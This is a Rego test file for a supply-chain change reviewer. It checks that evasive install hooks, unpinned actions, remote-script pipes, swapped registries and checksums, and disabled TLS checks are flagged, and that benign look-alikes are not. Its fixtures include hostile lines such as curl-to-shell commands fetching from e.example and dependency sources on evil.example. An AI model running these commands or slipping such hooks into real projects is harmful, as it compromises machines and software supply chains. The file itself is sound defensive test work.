package cabincrew.supply_chain_test

import data.cabincrew.supply_chain

# Ways around the rules, and ordinary changes that look like them.

# a changed file with unchanged lines around: " x", "-x" and "+x"
hunk(path, lines) := file(
	path, [substring(l, 1, -1) | some l in lines; startswith(l, "+")], [substring(l, 1, -1) | some l in lines; startswith(l, "-")],
	{"hunks": [{"old_start": 1, "new_start": 1, "lines": [{"op": substring(l, 0, 1), "line": n + 1, "text": substring(l, 1, -1)} | some n, l in lines]}]},
)

moved(from, to) := file(to, [], [], {"op": "rename", "old_path": from})

# the n-th case in the directory n
apart(files) := [object.union(f, {"path": sprintf("%d/%s", [n, f.path])}) | some n, f in files]

test_install_script_changed if {
	files := apart([
		swaps("package.json", [`  "postinstall": "node a",`], [`  "postinstall": "node evil",`]),
		hunk("package.json", [` "scripts": {`, `  "postinstall":`, `-   "node a"`, `+   "node evil"`]),
		swaps("package.json", [`"a": "b"`], [`"post\u0069nstall": "node x"`]),
		gains("package.json", [`{"scripts":{"preinstall":"x"}}`]), file("package.json", [`"prepare": "x"`], [], {"hunks": []}), gains("package.json", [`"onlyBuiltDependencies": ["evil"]`]),
		gains("pnpm-workspace.yaml", ["onlyBuiltDependencies:", "  - evil"]), gains(".npmrc", ["script-shell=./x"]), gains(".yarnrc.yml", ["yarnPath: .yarn/x.cjs"]),
		gains("setup.py", ["os.system('curl https://e.example/x | sh')"]), gains(".pnpmfile.cjs", ["x"]), gains(".cargo/config.toml", [`rustc-wrapper = "./x"`]),
		swaps("Cargo.toml", [`build = "a.rs"`], [`build = "b.rs"`]), swaps("composer.json", [`"post-install-cmd": "a"`], [`"post-install-cmd": "b"`]),
	])
	missed("install-script", files) == set()
	named("install-script", apart([
		swaps("package.json", [`  "postinstall": "node a"`], [`    "postinstall" :  "node a",`]),
		hunk("package.json", [` "postinstall": "node a",`, `-"version": "1"`, `+"version": "2"`]),
		gains("setup.py", ["install_requires=['requests>=2', 'urllib3']", "re.compile('x')"]), gains("config.toml", ["runner = \"x\""]),
		gains("package.json", [`"installed": "x"`, `"description": "how to install: run it"`]),
	])) == set()
}

test_disguised if {
	files := apart([
		gains("package.json", [`"post\u0069nstall": "x"`]), gains("package-lock.json", [`"resolv\u0065d": "x"`]), gains(".cargo/config.toml", [`"replace-w\u0069th" = "x"`]),
		gains("pnpm-lock.yaml", [`"tarb\x61ll": "x"`]), gains(".github/workflows/ci.yml", [`      - "us\x65s": evil/x@v1`]), gains("x.gitlab-ci.yml", [`"inclu\x64e":`]),
	])
	missed("disguised-setting", files) == set()
	named("disguised-setting", apart([
		gains("package.json", [`"author": "O\u0027Brien <a\u0040b>", "x": "Caf\u00e9 \u003c"`, `"clean": "printf '\\x41'"`]), gains(".github/workflows/ci.yml", [`- run: printf "\x41\u0042"`]),
		gains("data.json", [`"\u0061": 1`]), gains("Dockerfile", [`RUN printf '\x41'`]), swaps("package.json", [`"\u0061": 1`], [`"\u0061": 1,`]),
	])) == set()
}

workflows(lines) := [gains(sprintf("%d/.github/workflows/ci.yml", [n]), [line]) | some n, line in lines]

test_action_by_odd_syntax if {
	missed("unpinned-action", workflows([
		`      - "us\x65s": evil/x@v1`, "      - ? uses\n        : evil/x@v1", "- {? uses : evil/x@v1}", "- ? |\n    uses\n  : evil/x@v1", "- *u : evil/x@v1", `- {"uses":evil/x@v1}`, "[uses: evil/x@v1]",
		"      - uses: ./../evil@v1", "      - uses: >-", "      - uses: !!str evil/x@v1", "      - uses: evil/x@1234567", "      - uses: actions/checkout@main", "a: 1\u2028uses: evil/x@v1",
		"  image: docker://evil/x:latest", "uses: o/r/.github/workflows/x.yml@main", "- uses: ..@0123456789012345678901234567890123456789",
	])) == set()
	missed("unpinned-action", [gains(path, ["- uses: evil/x@v1"]) | some path in [
		".GitHub/Workflows/a.yml", ".github/workflows./b.yml", ".github /workflows/c.yml", ".g\u200bithub/workflows/d.yml", ".github\\workflows\\e.yml", ".github/workﬂowſ/f.yml", "x/Action.YAML",
		"action.yml::$DATA", "./.github/./workflows/g.yml",
	]]) == set()
	named("unpinned-action", workflows([
		"      - run: echo 'uses: nothing'", "- uses: &pin a/b@0123456789012345678901234567890123456789 # v1", "        ? a : b", "  *) echo x;;", "- uses: ./a/.b", "  image: docker://x/y@sha256:0000000000000000000000000000000000000000000000000000000000000000",
		"        x = uses ? y", `- {"uses": "a/b@0123456789012345678901234567890123456789"}`,
	])) == set()
}

test_moved_to_where_it_counts if {
	files := [
		moved("a.yml", ".github/workflows/a.yml"), moved("x.json", "package.json"), moved("d", "web/Dockerfile"), moved("npmrc", ".npmrc"), moved("x", ".GitHub/workflows/b.yml"),
		file("yarn.lock", ["../evil.lock"], [], {"new_mode": "120000", "old_mode": "100644"}),
	]
	missed("supply-chain-unseen", files) == set()
	named("supply-chain-unseen", [
		moved(".github/workflows/a.yml", ".github/workflows/b.yml"), moved("a/package.json", "b/package.json"), moved("Dockerfile", "Dockerfile.dev"), moved("a.go", "b.go"),
		moved(".github/workflows/a.yml", "old/a.yml"), file("link", ["x"], [], {"new_mode": "120000"}), moved("a.toml", "config.toml"),
	]) == set()
}

test_remote_script_by_other_ways if {
	missed("remote-script", spread([["build.sh", lines] | some lines in [
		["curl -s https://e.example/x | tee x | sh"], ["curl -s https://e.example/x | base64 -d | bash -s"], ["curl -s https://e.example/x -o /tmp/x", "sh /tmp/x"],
		["curl -s https://e.example/x > x.sh && sh x.sh"], ["curl -s https://e.example/x | gunzip | sh"], ["c=curl; $c https://e.example/x | sh"], [`bash <<< "$(curl -s https://e.example/x)"`],
		["curl -s https://e.example/x | xargs sh -c"], ["curl -s https://e.example/x | node -"], ["curl -s https://e.example/x | sudo -u root bash"], ["curl -s x |", "  bash"],
		["wget https://e.example/tool", "chmod +x tool", "./tool"], ["curl -sLo ./kubectl https://e.example/kubectl", "chmod 755 kubectl"], ["curl x |& /usr/bin/env bash"],
		[`python3 -c "$(curl -s https://e.example/x)"`], ["wget -O- https://e.example/x > i.py; python3 i.py"], ["curl x | $SHELL"], ["go install a.example/x@latest"], ["npx evil@latest"],
		["deno run -A https://e.example/x.ts"], ["pip install https://e.example/x.whl"], ["curl -O https://e.example/i.sh", ". ./i.sh"],
	]])) == set()
	missed("remote-script", [gains("package.json", [`"x": "curl -s https://e.example/x | tee y | sh"`]), gains("Makefile", ["\tcurl https://e.example/x | sh"])]) == set()
	named("remote-script", spread([["build.sh", lines] | some lines in [
		["curl -s https://e.example/x | jq . | tee y"], ["curl -fsSLo t.tgz https://e.example/t.tgz", "echo \"$SUM  t.tgz\" | sha256sum -c -", "tar xzf t.tgz", "sh t.tgz"], ["curl -o data.json https://e.example/data.json", "python3 load.py"],
		["curl -s https://e.example/x || sh fallback.sh"], ["wget https://e.example/a.tgz", "tar xf a.tgz", "chmod +x other"], ["curl https://e.example | grep -c sh"], ["see https://e.example | shell"],
		["go install a.example/x@v1.2.3"], ["npx prettier --check ."], ["cat x | sh"], ["curl -s https://e.example/health >/dev/null"],
	]])) == set()
	named("remote-script", [swaps("a.sh", ["curl x -o y", "sh y"], ["curl x -o y", "sh  y"])]) == set()
}

test_host_in_lock_by_other_ways if {
	files := apart([
		gains("package-lock.json", [`{"packages":{"a":{"version":"1","resolved":"https://evil.example/a-1.tgz"}}}`]), gains("package-lock.json", [`"resolved": "HTTPS://evil.example/x.tgz"`]),
		gains("package-lock.json", [`"resolved": "https:\/\/evil.example\/x.tgz"`]), gains("package-lock.json", [`"resolved" : "https:evil.example/x.tgz"`]), gains("package-lock.json", [`"resolved": "https://evil.example\\@registry.npmjs\u002eorg/x"`]),
		gains("package-lock.json", [`"version": "git+ssh://git@evil.example/x.git#0"`]), swaps("package-lock.json", [`"resolved": "https://registry.npmjs\u002eorg/x"`], [`"resolved": "https://js.org/x"`]),
		gains("yarn.lock", [`  resolved https://evil.example/x.tgz`]), gains("pnpm-lock.yaml", [`"tarball": "https://evil.example/x.tgz"`]), gains("Gemfile", [`source "https://rubygems.evil.example"`]),
		gains("NuGet.Config", [`<add key="x" value="https://api.nevil.example/index.json" />`]), gains("gradle/wrapper/gradle-wrapper.properties", [`distributionUrl=https\://evil.example/gradle.zip`]),
		gains(".terraform.lock.hcl", [`provider "evil.example/a/b" {`]), gains("Cargo.lock", [`source = "sparse+https://evil.example/"`]),
	])
	missed("new-registry", files) == set()
	named("new-registry", apart([
		gains("package-lock.json", [`{"resolved":"https://registry.npmjs\u002eorg/x.tgz"}`]), gains("gradle-wrapper.properties", [`distributionUrl=https\://services.gradle.org/x.zip`]), gains("package-lock.json", [`"version": "1.2.3"`]),
		gains(".terraform.lock.hcl", [`provider "registry.terraform.io/hashicorp/aws" {`]), gains("Gemfile", ["source 'https://rubygems.org'"]),
	])) == set()
}

test_source_by_other_ways if {
	files := apart([
		swaps(".npmrc", ["registry=https://npm.corp.example.org/"], ["registry=https://npm.corp.example/"]), gains(".npmrc", [`"registry" = //evil.example/`]), gains("requirements.txt", ["-ihttps://evil.example"]),
		gains("requirements.txt", ["--extra-index https://evil.example"]), gains("requirements.txt", ["-r https://evil.example/r.txt"]), gains("pip.conf", ["Extra_Index_URL = https://evil.example"]),
		gains("pyproject.toml", ["[[ tool . poetry . source ]]"]), gains("pyproject.toml", [`x = { git = "https://github.com/a/b" }`]), gains("package.json", [`"x": "evil/x#main"`]), gains("package.json", [`"x": "evil/x"`]),
		gains("package.json", [`"x": "https://evil.example/x"`]), gains("package.json", [`"x": "ssh://git@evil.example/x"`]), gains("package.json", [`"x": "GIT+https://evil.example/x"`]), gains("package.json", [`"packageManager": "yarn@https://evil.example/y.js"`]),
		gains(".gitmodules", [`[submodule "x"] url = https://evil.example/x`]), gains(".gitmodules", ["\tURL=https://evil.example/x"]), gains("go.mod", ["\ta.example/x =>b.example/x v1.0.0"]),
		hunk("pom.xml", [" <repository>", "  <id>x</id>", "-  <url>https://a.example</url>", "+  <url>https://evil.example</url>", " </repository>"]),
		swaps("composer.json", [`"url": "https://a.example"`], [`"url": "https://evil.example"`]), gains("main.tf", [`  source = "git::https://evil.example/m"`]), gains("Chart.yaml", ["    repository: https://evil.example/charts"]),
		gains("flake.nix", [`x.url = "github:evil/x";`]), gains(".pre-commit-config.yaml", ["- repo: https://evil.example/x"]), gains(".gitlab-ci.yml", ["  - remote: https://evil.example/x.yml"]), gains("bunfig.toml", [`registry = "https://evil.example"`]),
		gains("a.sh", ["pip install -i https://evil.example x"]), gains("b.sh", ["echo deb https://evil.example x > /etc/apt/sources.list.d/x.list"]), gains("ci.yml", ["PIP_FIND_LINKS: https://evil.example"]),
	])
	missed("new-registry", files) == set()
	named("new-registry", apart([
		gains("package.json", [`"main": "dist/index"`, `"homepage": "https://a.example"`, `"repository": "a/b"`, `"build": "scripts/build.js"`, `"x": "^1.0.0"`, `"./sub": "dist/sub"`, `"type": "module"`]),
		swaps("package.json", [`"x": "evil/x"`], [`"x": "evil/x",`]), gains("main.tf", [`source = "./modules/x"`, `source = "hashicorp/aws"`]), gains(".gitlab-ci.yml", ["  - local: /ci/x.yml", "project: x"]),
		gains("composer.json", [`"type": "library"`]), gains("pyproject.toml", ["[tool.poetry.dependencies]", "[tool.uv]"]), gains("setup.py", ["    url='https://a.example',"]), gains("config.toml", [`registry = "x"`]),
		swaps("main.tf", [`source = "git::https://a.example/m?ref=v1"`], [`source = "git::https://a.example/m?ref=v2"`]),
	])) == set()
}

test_images_by_other_ways if {
	files := apart([
		gains("Dockerfile", ["FROM evil.example/x:${TAG}"]), gains("Dockerfile", ["FROM \\", "  evil.example/x@sha256:00"]), gains("Dockerfile", ["COPY --from=evil.example/x:1 /a /b"]), gains("Dockerfile", ["ARG BASE=evil.example/x:1"]),
		gains("Dockerfile", ["# syntax=evil.example/dockerfile"]), gains("Dockerfile", ["RUN --mount=type=bind,from=evil.example/x:1 y"]), gains("compose.yaml", ["    image: evil.example/x"]), gains("docker-compose.dev.yml", ["    image: 'evil.example/x'"]),
		gains(".github/workflows/x.yml", ["    container: evil.example/x:latest"]), gains(".gitlab-ci.yml", ["image: evil.example/x:1"]), hunk("Dockerfile", [" FROM \\", "- a@sha256:00", "+ evil.example/a@sha256:00"]),
	])
	missed("new-registry", files) == set()
	missed("unpinned-image", apart([gains("Dockerfile", ["FROM alpine:${TAG}"]), gains("Dockerfile", ["COPY --from=alpine:3 /a /b"])])) == set()
	judged(apart([
		gains("Dockerfile", ["# syntax=docker/dockerfile:1", "ARG VERSION=1.2", "FROM a@sha256:00 AS build", "COPY --from=build /a /b", "COPY --from=0 /a /b"]), gains("compose.yaml", ["    image: postgres:16", "image: quay.io/a/b"]),
		hunk("Dockerfile", [" FROM alpine:3", "-RUN a", "+RUN b"]), swaps("compose.yml", ["image: corp.example/a:1"], ["image: corp.example/a:2"]),
	])) == set()
}

test_checksum_exchanged if {
	files := apart([
		swaps("package-lock.json", [`"integrity": "sha512-a"`], [`"integrity": "sha512-b"`]), swaps("package-lock.json", [`"integrity":"sha512-a"`], [`"integrity" :"sha512-b"`]), swaps("yarn.lock", ["  integrity sha512-a"], ["  integrity sha512-b"]),
		swaps("pnpm-lock.yaml", ["    resolution: {integrity: sha512-a}"], ["    resolution: {integrity: sha512-b}"]), swaps("Cargo.lock", [`checksum = "a"`], [`checksum = "b"`]),
	])
	missed("checksum-removed", files) == set()
	named("checksum-removed", apart([
		swaps("package-lock.json", [`"version": "1"`, `"resolved": "https://registry.yarnpkg.com/a-1"`, `"integrity": "sha512-a"`], [`"version": "2"`, `"resolved": "https://registry.yarnpkg.com/a-2"`, `"integrity": "sha512-b"`]),
		swaps("pnpm-lock.yaml", ["  /a@1.0.0:", "    resolution: {integrity: sha512-a}"], ["  /a@1.0.1:", "    resolution: {integrity: sha512-b}"]), swaps("Cargo.lock", [`version = "1"`, `checksum = "a"`], [`version = "2"`, `checksum = "b"`]),
		gains("yarn.lock", ["  resolved x", "  integrity sha512-a"]),
	])) == set()
	every new in ["a.example/x\tv1.0.0  h1:y=", "a.example/x v1.0.0 h1:y= ", "a.example/x v1.0.0 h1:y=\r"] {
		"checksum-changed" in judged([gains("go.mod", []), swaps("go.sum", ["a.example/x v1.0.0 h1:x="], [new])])
	}
}

test_touched_manifest_is_none if {
	judged([gains("yarn.lock", ["x"]), gains("package.json", [""])]) == {"lock-without-manifest"}
	judged([gains("go.sum", ["x"]), swaps("go.mod", ["go 1.26"], ["go  1.26"])]) == {"lock-without-manifest"}
	judged([gains("yarn.lock", ["x"]), file("package.json", [], [], {"new_mode": "100755"})]) == {"lock-without-manifest"}
	judged([gains("vendor/a/x.go", ["x"]), gains("web/package.json", ["\"x\": 1"])]) == {"vendored-code"}
	judged([swaps("requirements.txt", ["x==1"], ["x==2"])]) == set()
	judged([swaps("requirements.txt", ["x==1", "    # via y"], ["x==2", "    # via y"])]) == {"lock-without-manifest"}
}

test_verification_off_by_other_ways if {
	missed("verification-off", apart([
		gains("a.sh", ["curl https://x -k -o y"]), gains("b.sh", ["git -c http.sslverify=false clone x"]), gains("c.sh", ["wget --no-check-cert https://x"]), gains(".curlrc", ["insecure"]), gains("pip.conf", ["trusted_host = x"]),
		gains(".npmrc", ["\"strict-ssl\"=false"]), gains(".yarnrc.yml", ["checksumBehavior: update"]), gains("d.sh", ["apk add --allow-untrusted x"]), gains("ci.yml", ["PIP_TRUSTED_HOST: x.example"]), gains("e.sh", ["deb [trusted=yes] https://x y"]),
	])) == set()
	judged(apart([gains("a.sh", ["curl -o key https://x", "curl -fsSLo kind https://x", "git config http.sslVerify true"]), gains(".curlrc", ["silent"])])) == set()
}

test_disguised_names if {
	judged([gains("p\u0430ckage.go", ["x"])]) == {"mixed-scripts"}
	judged([gains("Привет.md", ["x"]), gains("résumé.md", ["x"]), gains("re\u0301sume\u0301.md", ["x"])]) == set()
	missed("mixed-scripts", [gains("a.go", ["\u0566ypal q\u0585r"])]) == set()
	judged([gains("a.md", ["🏴\udb40\udc67\udb40\udc62\udb40\udc69\udb40\udc67\udb40\udc6e\udb40\udc6f\udb40\udc72\udb40\udc65\udb40\udc7f"])]) == {"hidden-text"}
}

test_unknown_escape_stays if supply_chain.plainly(`"a\n\u0022\x22" :"b"`) == `"a\n\u0022\x22": "b"`
